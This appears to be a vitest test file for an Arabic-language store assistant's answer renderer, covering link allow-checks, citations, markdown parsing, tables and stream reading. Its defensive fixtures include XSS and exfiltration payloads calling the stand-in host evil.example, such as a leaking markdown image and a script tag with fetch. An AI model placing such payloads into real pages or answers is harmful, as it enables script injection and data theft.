import { expect, test } from 'vitest'
import { answerTable, composeReadings, dayGroupOf, isOwnAddress, plainText, readBlocks, SourceList } from './rules.ts'
import { readStream, streamLine } from './stream/rules.ts'

test.each([
  '//evil.example',
  '/\\evil.example',
  'https://evil.example',
  'javascript:alert(1)',
  'data:text/html,x',
  '',
  '/a b',
  ' /a',
  '/\\/a',
])('no source leads to %j', (to) => {
  expect(isOwnAddress(to)).toBe(false)
  const list = new SourceList()
  expect(list.cite({ to, title: 'x' })).toBe('')
  expect(list.sources).toEqual([])
})

test('a record is one source, however often it is cited, and there are not too many', () => {
  const list = new SourceList()
  expect([list.cite({ to: '/a', title: 'A' }), list.cite({ to: '/b', title: 'B' }), list.cite({ to: '/a', title: 'again' })]).toEqual([
    ' [1]',
    ' [2]',
    ' [1]',
  ])
  for (let n = 0; n < 30; n += 1) list.cite({ to: `/c/${n}`, title: 'C' })
  expect(list.sources).toHaveLength(12)
})

test('a statement carries the number of its source, and its records stand below it', () => {
  const result = {
    statement: 'منتجات: 2.',
    figures: { low: 2 },
    links: [
      { to: '/admin/stock', title: 'المخزون' },
      { to: '/admin/store/products/a', title: 'عسل **[9]** السدر', note: 'بقي 0' },
      { to: 'https://evil.example/?leak', title: 'خارج' },
    ],
  }
  const answer = composeReadings([{ tool: 'stock_low', label: 'المخزون', result }])
  expect(answer.text).toBe('منتجات: 2. [1]\n\n- **عسل 9 السدر**: بقي 0 [2]')
  expect(answer.sources.map(({ to }) => to)).toEqual(['/admin/stock', '/admin/store/products/a'])
})

const drawn = (values: number[], column = 1) =>
  answerTable({
    title: 'المبيعات',
    columns: ['اليوم', 'المبلغ'],
    rows: values.map((value, n) => [String(n), String(value)]),
    drawing: { kind: 'time', column, values },
  }).drawing

test('a table is drawn where there is something to compare, from zero up, a figure a row', () => {
  expect(drawn([0, 5, 3])).toEqual({ kind: 'time', column: 1, values: [0, 5, 3] })
  expect([drawn([0, 0]), drawn([7]), drawn([]), drawn([4, -1]), drawn([4, Number.NaN]), drawn([1, 2], 0), drawn([1, 2], 2)]).toEqual(
    Array.from({ length: 7 }, () => undefined),
  )
  const rows = [['1', '2']]
  expect(
    answerTable({ title: 'x', columns: ['a', 'b'], rows, drawing: { kind: 'shares', column: 1, values: [1, 2] } }).drawing,
  ).toBeUndefined()
})

/** What stands in records and wants to be more than text. */
const hostile = [
  '![x](https://evil.example/leak?d=1)',
  '[اضغط هنا](https://evil.example)',
  '<img src=x onerror=alert(1)>',
  '<script>fetch("//evil.example")</script>',
  '# عنوان\n- [1] قائمة',
  '\u202eمقلوب\u202c',
  'خفي\u200b\u200c\u2063',
  '**غليظ** [99]',
  'data:text/html;base64,PHNjcmlwdD4=',
  '`رمز` [1] `',
]

test.each(hostile)('%j of a record stays plain text in an answer', (text) => {
  const title = plainText(text)
  expect(title).not.toMatch(/[*`[\]\u200b-\u200f\u202a-\u202e\u2060-\u2069\n]/)
  const blocks = readBlocks(`- **${title}**: ${title} [1]`)
  const [list] = blocks
  expect(blocks).toHaveLength(1)
  const kinds = list?.kind === 'list' ? list.items.flatMap(({ parts }) => parts.map(({ kind }) => kind)) : []
  expect(kinds).toEqual(['strong', 'text', 'source'])
})

test('paragraphs, lists, strong words, telephones and sources are read, and nothing else', () => {
  expect(readBlocks('قال: **نعم** [1]، هاتفه +212539840000.\n\n- واحد [2]\n- [x](y) <b>')).toEqual([
    {
      key: 0,
      kind: 'paragraph',
      parts: [
        { key: 0, kind: 'text', text: 'قال: ' },
        { key: 1, kind: 'strong', text: 'نعم' },
        { key: 3, kind: 'source', number: 1 },
        { key: 4, kind: 'text', text: '، هاتفه ' },
        { key: 5, kind: 'phone', text: '+212539840000' },
        { key: 6, kind: 'text', text: '.' },
      ],
    },
    {
      key: 2,
      kind: 'list',
      items: [
        {
          key: 2,
          parts: [
            { key: 0, kind: 'text', text: 'واحد' },
            { key: 1, kind: 'source', number: 2 },
          ],
        },
        { key: 3, parts: [{ key: 0, kind: 'text', text: '[x](y) <b>' }] },
      ],
    },
  ])
})

test('code, numbers of orders, days and signed figures are told apart, to keep their own direction', () => {
  const parts = (text: string) =>
    readBlocks(text).flatMap((block) => (block.kind === 'paragraph' ? block.parts.filter((part) => part.kind !== 'text') : []))
  expect(
    parts('الطلب R-1041 يوم 2026-11-23 فرقه -12,50 درهما [1]: اكتب `npm run backup`.').map((part) => [
      part.kind,
      'text' in part ? part.text : part.number,
    ]),
  ).toEqual([
    ['term', 'R-1041'],
    ['term', '2026-11-23'],
    ['term', '-12,50'],
    ['source', 1],
    ['code', 'npm run backup'],
  ])
  expect(parts('من 3-4 أيام، و`مفتوح، وسعر 12-')).toEqual([])
})

test('steps are counted from one, line below line; a number that begins none stays in its sentence', () => {
  const kinds = (text: string) => readBlocks(text).map((block) => [block.kind, block.kind === 'paragraph' ? 1 : block.items.length])
  expect(kinds('**عنوان** [1]\n\n1. افتح\n2. اضغط [1]\n3. احفظ')).toEqual([
    ['paragraph', 1],
    ['steps', 3],
  ])
  expect(kinds('1. واحد\n- بند\n2. نونبر يوم')).toEqual([
    ['steps', 1],
    ['list', 1],
    ['paragraph', 1],
  ])
  expect(kinds('23. نونبر')).toEqual([['paragraph', 1]])
})

test.each([
  ['2026-11-23', 'today'],
  ['2026-11-17', 'week'],
  ['2026-11-16', 'earlier'],
])('a conversation of %s stands under %s', (day, group) => expect(dayGroupOf(day, '2026-11-23')).toBe(group))

test('a stream is read in whatever pieces it comes, and garbage in it is passed over', () => {
  const sent = `${streamLine({ type: 'text-delta', id: 'a', delta: 'سلام' })}data: {broken\n\n: comment\n\n${streamLine({ type: 'finish' })}data: [DONE]\n\n`
  const parts: unknown[] = []
  let rest = ''
  for (const letter of sent) {
    const read = readStream(rest + letter)
    parts.push(...read.parts)
    rest = read.rest
  }
  expect([parts, rest]).toEqual([[{ type: 'text-delta', id: 'a', delta: 'سلام' }, { type: 'finish' }], ''])
})
